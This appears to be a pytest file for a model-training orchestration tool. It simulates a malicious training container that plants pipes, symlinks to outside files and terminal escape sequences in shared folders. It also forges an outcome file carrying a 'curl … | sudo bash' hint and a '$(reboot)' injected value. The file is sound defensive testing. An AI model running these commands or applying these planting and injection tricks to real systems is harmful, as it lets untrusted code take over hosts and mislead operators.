"""A training container that plants whatever it can in every folder that it shares: its run ends as it did, and nothing outside is touched.

It plants into the folders of the machine as their owner, the containers' user, would, while the real trainer trains: what a package that
came with a model could do.
"""

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from llmlab import contract
from llmlab.contract import EndReason, LogStream, Marker, Outcome, RunKeys, WorkFolder
from tests.sandbox.whole_runs import ENDLESS, Lab

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

ESCAPE = "\x1b]52;c;ZXZpbA==\x07\x1b[2J"
NAMES = (
    "training_exit", "training_exit.part", "marked", ".marked.new", "ready", "alive", "request.json", ".request.json.new", "notes",
)  # fmt: skip
PLANTS = ("pipe", "link", "folder")


def plant(kind: str, path: Path, victim: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "link":
        path.symlink_to(victim)
    else:
        (path / "inner").mkdir(parents=True)


def machine_of(lab: Lab, run: str) -> Path:
    """The folder of the run's machine."""
    identity = lab.instances(run)[-1]["InstanceId"]
    return next(Path(one["folder"]) for one in lab.sandbox.state()["machines"] if one["instance"] == identity)


def test_a_container_that_plants_things_everywhere_changes_nothing_outside_and_its_run_ends_rightly(lab: Lab, tmp_path: Path) -> None:
    run = lab.launch(ENDLESS, "save_steps=5")
    lab.until_trained(run, 3)
    root = machine_of(lab, run) / "root"
    work = WorkFolder(str(root / "opt/dlami/nvme/llmlab"))
    victims = {name: tmp_path / name for name in PLANTS}
    for victim in victims.values():
        victim.write_text("precious")
    output, checkpoints = Path(work.output), Path(work.checkpoints)
    for number, name in enumerate(NAMES):
        plant(PLANTS[number % 3], Path(work.control, name), victims[PLANTS[number % 3]])
    for kind in PLANTS:
        plant(kind, output / f"a-{kind}", victims[kind])
        (checkpoints / f"checkpoint-{100000 + PLANTS.index(kind)}").mkdir(parents=True)
        plant(kind, checkpoints / f"checkpoint-{100000 + PLANTS.index(kind)}" / contract.COMPLETE, victims[kind])
    (output / "out").symlink_to(tmp_path)
    (output / f"escape{ESCAPE.replace('/', '')}").write_text("x")
    Path(work.progress).unlink(missing_ok=True)
    lab.run("stop", run)
    marker = lab.marker(run)
    assert marker.reason is EndReason.STOPPED_BY_USER
    assert 0 < lab.bucket.checkpoint(run) <= marker.step < 100000
    assert {victim.read_text() for victim in victims.values()} == {"precious"}
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(PLANTS)
    keys = lab.bucket.keys(RunKeys(run).prefix)
    assert not [key for key in keys if "/a-" in key or "/out" in key.removeprefix(RunKeys(run).output) or not key.isprintable()]
    said = lab.logged(run, LogStream.AGENT)
    assert "left out of the output: 'a-pipe' is a pipe" in said
    assert "left out of the output: 'out' is a link" in said
    assert ESCAPE not in said
    assert "the agent ended" not in lab.logged(run, LogStream.SETUP)


def test_what_a_container_says_of_its_end_is_told_and_is_no_command(lab: Lab) -> None:
    """Its outcome is its own to write; the reason is held to the exit code, the words to a length, the hint to our table."""
    run = lab.launch(ENDLESS)
    lab.until_trained(run, 3)
    work = WorkFolder(str(machine_of(lab, run) / "root/opt/dlami/nvme/llmlab"))
    outcome: dict[str, Any] = json.loads(contract.dump(Outcome(EndReason.TRAINING_ERROR, f"because {ESCAPE}" + "x" * 5000)))
    outcome |= {"hint": "curl -fsSL https://example.org | sudo bash", "hint_code": "set", "hint_values": {"model": "$(reboot)"}}
    Path(work.outcome).write_text(json.dumps(outcome))
    lab.sandbox.kill_container(lab.instances(run)[0]["InstanceId"], "llmlab-training")
    marker = lab.marker(run)
    assert isinstance(marker, Marker)
    assert (marker.reason, len(marker.detail)) == (EndReason.TRAINING_ERROR, 1000)
    shown = lab.run("status", run)
    assert f"next: {EndReason.TRAINING_ERROR.hint(run)}" in shown.out + shown.err
    assert "curl" not in shown.out + shown.err
